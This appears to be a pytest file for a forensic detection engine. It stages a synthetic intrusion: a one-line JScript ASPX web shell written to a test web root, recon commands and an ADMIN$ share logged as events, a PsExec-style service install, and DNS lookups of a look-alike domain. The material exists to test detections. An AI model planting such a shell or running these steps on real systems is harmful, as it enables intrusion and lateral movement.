"""Correlation detections through the real engine on a small intrusion built in a real case: a
web shell swept on WEB1, its commands and an admin share to FS1 in the event logs, a service
installed on FS1, and DNS questions to a look-alike domain from WEB1's address."""

from __future__ import annotations

import json
import os
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from seawall.case.store import CaseStore
from seawall.cli.app import run
from seawall.detect.engine import HuntRequest, hunt
from seawall.detect.schema import load_directory
from seawall.errors import BadInputError, ExitCode
from seawall.model.finding import Incident, ResultDocument
from tests.detect.helpers import sweep
from tests.evtx_rows import SYSMON, SYSTEM, event, load_events

W = "C:\\Windows\\System32\\"
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["z1"],"unsafe");%>\r\n'
LOOKALIKE = "corp-example.test"

NETWORK_DETECTION = f"""
id: test.lookalike-dns
title: Look-alike domain asked
description: DNS questions for names under a look-alike of the company's domain.
techniques: [T1071.004]
severity: high
requires: [dns]
parameters:
  suffix: {LOOKALIKE}
sql: |
  SELECT client_ip AS host, min(time) AS first_seen, max(time) AS last_seen,
    client_ip || ' asked ' || count(*) || ' names under ' || $suffix AS summary,
    $suffix AS domain, count(*) AS questions, arg_min(source_file, time) AS source_file,
    arg_min(source_sha256, time) AS source_sha256, arg_min(record_ref, time) AS record_ref
  FROM dns WHERE ends_with(query, '.' || $suffix) GROUP BY client_ip
false_positives: [none here]
triage: none here
"""
COMMON_DETECTION = """
id: test.common-dns
title: An update server asked
description: Every client asks for the update server; a value every host shares.
techniques: [T1071.004]
severity: medium
requires: [dns]
sql: |
  SELECT client_ip AS host, min(time) AS first_seen, max(time) AS last_seen,
    client_ip || ' asked the update server' AS summary, 'update.vendor.example' AS domain,
    arg_min(source_file, time) AS source_file, arg_min(source_sha256, time) AS source_sha256,
    arg_min(record_ref, time) AS record_ref
  FROM dns WHERE query = 'update.vendor.example' GROUP BY client_ip
false_positives: [none here]
triage: none here
"""


def _sysmon(
    image: str, command: str, parent: str, user: str, time: str, computer: str
) -> dict[str, Any]:
    data = {"Image": image, "CommandLine": command, "ParentImage": parent, "User": user}
    return event(1, data, channel=SYSMON, time=time, computer=computer)


def _events() -> list[dict[str, Any]]:
    web, pool = "WEB1.corp.example", "IIS APPPOOL\\DefaultAppPool"
    rows = [_sysmon(W + "cmd.exe", "cmd /c whoami", W3WP, pool, "2024-03-01T10:05:00Z", web)]
    for minute, tool in enumerate(("whoami", "ipconfig", "nltest", "net"), 6):
        args = {"net": "net group /domain", "nltest": "nltest /dclist:"}.get(tool, tool)
        rows.append(
            _sysmon(
                W + tool + ".exe", args, W + "cmd.exe", pool, f"2024-03-01T10:{minute:02d}:00Z", web
            )
        )
    rows.append(
        _sysmon(
            W + "net.exe",
            "net use \\\\fs1\\ADMIN$",
            W + "cmd.exe",
            "CORP\\alice",
            "2024-03-01T12:00:00Z",
            web,
        )
    )
    logon = {
        "TargetUserName": "alice",
        "TargetDomainName": "CORP",
        "LogonType": "3",
        "IpAddress": "10.1.1.10",
        "WorkstationName": "WEB1",
    }
    share = {
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "IpAddress": "10.1.1.10",
        "ShareName": "\\\\*\\ADMIN$",
        "RelativeTargetName": "PSEXESVC.exe",
    }
    fs1 = "FS1.corp.example"
    rows += [
        event(4624, logon, time="2024-03-01T12:00:29Z", computer=fs1, user_name="alice"),
        event(5140, share, time="2024-03-01T12:00:30Z", computer=fs1, user_name="alice"),
        event(5145, share, time="2024-03-01T12:00:31Z", computer=fs1, user_name="alice"),
        event(
            7045,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "AccountName": "LocalSystem",
            },
            channel=SYSTEM,
            time="2024-03-01T12:01:00Z",
            computer=fs1,
            user_name="alice",
        ),
    ]
    return rows


def _dns(path: Path) -> Path:
    def line(i: int, client: str, query: str, answers: list[str]) -> str:
        return json.dumps(
            {
                "_path": "dns",
                "ts": 1709287200.0 + 3600 * 3 + i * 60,
                "uid": f"C{i}",
                "id.orig_h": client,
                "id.orig_p": 50000 + i,
                "id.resp_h": "10.1.1.2",
                "id.resp_p": 53,
                "proto": "udp",
                "query": query,
                "qtype_name": "A",
                "rcode_name": "NOERROR",
                "answers": answers,
            }
        )

    lines = [line(0, "10.1.1.50", "web1.corp.example", ["10.1.1.10"])]
    lines += [line(1 + i, "10.1.1.10", f"a{i}x.{LOOKALIKE}", []) for i in range(5)]
    clients = ["10.1.1.10", *(f"10.1.2.{n}" for n in range(1, 9))]
    lines += [
        line(10 + i, c, "update.vendor.example", ["198.51.100.9"]) for i, c in enumerate(clients)
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The case, built once (copied by each test that hunts)."""
    base = tmp_path_factory.mktemp("intrusion")
    case_dir = base / "case"
    root = base / "web1"
    shell = root / "inetpub" / "wwwroot" / "aspnet_client" / "err.aspx"
    shell.parent.mkdir(parents=True)
    shell.write_text(SHELL, encoding="utf-8")
    written = datetime(2024, 3, 1, 10, 2, tzinfo=UTC).timestamp()  # uploaded just before its use
    os.utime(shell, (written, written))
    sweep(case_dir, root, host="WEB1.corp.example")
    with CaseStore.open(case_dir) as store:
        load_events(store, _events())
    dns = _dns(base / "dns.log")
    assert run(["--case", str(case_dir), "collect", "logs", str(dns), "--json"]) == ExitCode.OK
    detections = base / "detections"
    detections.mkdir()
    (detections / "lookalike.yml").write_text(NETWORK_DETECTION, encoding="utf-8")
    (detections / "common.yml").write_text(COMMON_DETECTION, encoding="utf-8")
    return base


def _hunt(built: Path, tmp_path: Path, request: HuntRequest | None = None) -> ResultDocument:
    case_dir = tmp_path / "case"
    shutil.copytree(built / "case", case_dir)
    request = request or HuntRequest(detection_dirs=(built / "detections",))
    with CaseStore.open(case_dir) as store:
        return hunt(store, request)


def _one(document: ResultDocument, detection: str, host: str | None = None) -> Incident:
    found = [
        i
        for i in document.incidents
        if i.detection_id == detection and (host is None or host in i.hosts)
    ]
    assert len(found) == 1, [(i.detection_id, i.hosts, i.summary) for i in document.incidents]
    return found[0]


def test_host_story_across_planes(built: Path, tmp_path: Path) -> None:
    document = _hunt(built, tmp_path)
    story = _one(document, "correlate.host-story", "web1.corp.example")
    assert story.scope == "host" and story.hosts == ["web1.corp.example"]
    assert story.planes == ["file", "event", "network"]
    details = {f.finding_id: f for f in document.findings}
    detections = {details[i].detection_id for i in story.finding_ids}
    assert {"web.webshell", "evtx.webserver-shell", "test.lookalike-dns"} <= detections
    # the network finding named 10.1.1.10: the DNS answer and the logon name it WEB1
    (identity,) = story.identities
    assert "10.1.1.10" in identity.names and identity.inferred
    assert {r.code for r in identity.reasons} >= {"identity.dns-answer", "identity.logon-source"}
    # steps in time order, stages in kill-chain order
    times = [s.time for s in story.steps if s.time is not None]
    assert times == sorted(times)
    order = [s.tactic for s in story.steps]
    assert (
        order.index("persistence") < order.index("discovery") < order.index("command-and-control")
    )
    ranks = [
        "initial-access",
        "execution",
        "persistence",
        "privilege-escalation",
        "defense-evasion",
        "discovery",
        "lateral-movement",
        "collection",
        "command-and-control",
    ]
    assert story.tactics == [t for t in ranks if t in story.tactics]
    # three planes agree, each a reason of the score
    codes = [r.code for r in story.reasons]
    assert codes.count("score.planes") == 2 and "score.strongest" in codes
    # the update server every client asks weighs less
    assert any(
        r.code == "score.prevalence" and r.data["value"] == "update.vendor.example"
        for r in story.reasons
    )


def test_intrusion_across_hosts(built: Path, tmp_path: Path) -> None:
    document = _hunt(built, tmp_path)
    intrusion = _one(document, "correlate.intrusion")
    assert intrusion.scope == "cross-host"
    assert intrusion.hosts == ["fs1.corp.example", "web1.corp.example"]
    assert "CORP\\alice" in intrusion.users
    edges = {(e.kind, e.source, e.target): e for e in intrusion.edges}
    share = edges[("admin-share", "web1.corp.example", "fs1.corp.example")]
    assert share.inferred and len(share.finding_ids) >= 2  # the client's net use, the server's 5140
    service = edges[("service-install", "web1.corp.example", "fs1.corp.example")]
    assert service.inferred
    inferred = next(r for r in service.reasons if r.code == "movement.source-inferred")
    assert inferred.data["source"] == "10.1.1.10" and inferred.data["link"] == "share"
    # the clients asking the update server are not part of it: too common to join anything
    assert not [h for h in intrusion.hosts if h.startswith("10.")]
    (refused,) = [r for r in intrusion.reasons if r.code == "correlation.not-linked"]
    assert refused.data["value"] == "update.vendor.example" and refused.data["hosts"] == 9
    assert set(intrusion.parts) >= {
        i.incident_id for i in document.incidents if i.detection_id == "correlate.host-story"
    }
    order = [s.tactic for s in intrusion.steps]
    assert order.index("persistence") < order.index("lateral-movement")
    assert order.index("discovery") < order.index("lateral-movement")


def test_suppressed_findings_are_no_part_of_an_incident(built: Path, tmp_path: Path) -> None:
    allow = tmp_path / "allow.yml"
    allow.write_text(
        "allow:\n  - detection: evtx.service-install\n    reason: the deployment tool\n",
        encoding="utf-8",
    )
    document = _hunt(
        built,
        tmp_path,
        HuntRequest(detection_dirs=(built / "detections",), allowlists=(allow,)),
    )
    suppressed = {f.finding_id for f in document.findings if f.suppressed}
    assert suppressed
    for incident in document.incidents:
        assert not suppressed & set(incident.finding_ids)
        assert "service-install" not in {e.kind for e in incident.edges}


CORRELATIONS = {
    "ordered": """
id: test.shell-then-share
title: Shell then admin share
description: A web server's shell, then an admin share mapped from the same host.
severity: high
correlation:
  type: temporal_ordered
  rules: [evtx.webserver-shell, evtx.admin-share-command]
  group_by: [host]
  timespan: 4h
false_positives: [none here]
triage: none here
""",
    "reversed": """
id: test.share-then-shell
title: Admin share then shell
description: The same two, in the other order.
severity: high
correlation:
  type: temporal_ordered
  rules: [evtx.admin-share-command, evtx.webserver-shell]
  group_by: [host]
  timespan: 4h
false_positives: [none here]
triage: none here
""",
    "count": """
id: test.recon-count
title: Several admin commands
description: At least three admin commands of the inventory within an hour of each other.
severity: medium
correlation:
  type: event_count
  rules: [evtx.admin-commands]
  group_by: [host]
  timespan: 1h
  condition: {gte: 3}
  min_severity: info
false_positives: [none here]
triage: none here
""",
    "too-many": """
id: test.recon-many
title: Many admin commands
description: At least ten.
severity: medium
correlation:
  type: event_count
  rules: [evtx.admin-commands]
  group_by: [host]
  timespan: 1h
  condition: {gte: 10}
  min_severity: info
false_positives: [none here]
triage: none here
""",
    "temporal": """
id: test.shell-and-service
title: A web shell and a service anywhere
description: Both within a day, on any host.
severity: high
correlation:
  type: temporal
  rules: [web.webshell, evtx.service-install]
  timespan: 1d
false_positives: [none here]
triage: none here
""",
}


def test_sigma_like_correlation_types(built: Path, tmp_path: Path) -> None:
    mine = tmp_path / "correlations"
    mine.mkdir()
    for name, text in CORRELATIONS.items():
        (mine / f"{name}.yml").write_text(text, encoding="utf-8")
    ids = (
        "web.webshell",
        "evtx.webserver-shell",
        "evtx.admin-share-command",
        "evtx.admin-commands",
        "evtx.service-install",
        *(
            f"test.{n}"
            for n in (
                "shell-then-share",
                "share-then-shell",
                "recon-count",
                "recon-many",
                "shell-and-service",
            )
        ),
    )
    document = _hunt(built, tmp_path, HuntRequest(detection_ids=ids, detection_dirs=(mine,)))
    made = {i.detection_id: i for i in document.incidents}
    assert set(made) == {"test.shell-then-share", "test.recon-count", "test.shell-and-service"}
    assert made["test.shell-then-share"].hosts == ["web1.corp.example"]
    assert made["test.shell-and-service"].hosts == ["fs1.corp.example", "web1.corp.example"]
    coverage = {e.detection_id: e for e in document.coverage}
    assert coverage["test.share-then-shell"].status == "ran"
    assert coverage["test.share-then-shell"].incidents == 0
    assert coverage["test.recon-count"].incidents == 1


def test_a_correlation_alone_says_it_has_nothing_to_read(built: Path, tmp_path: Path) -> None:
    document = _hunt(built, tmp_path, HuntRequest(detection_ids=("correlate.host-story",)))
    (entry,) = document.coverage
    assert entry.status == "not-run" and "reads the findings of the others" in (entry.reason or "")
    assert document.incidents == []


def test_bad_correlation_files_say_where(tmp_path: Path) -> None:
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "x.yml").write_text(
        CORRELATIONS["count"].replace("condition: {gte: 3}", "condition: {field: host}"),
        encoding="utf-8",
    )
    with pytest.raises(BadInputError) as error:
        load_directory(bad)
    assert "x.yml" in str(error.value.location) and "gt, gte" in error.value.message
    (bad / "x.yml").write_text(CORRELATIONS["count"].replace("1h", "soon"), encoding="utf-8")
    with pytest.raises(BadInputError) as error:
        load_directory(bad)
    assert "duration" in error.value.message
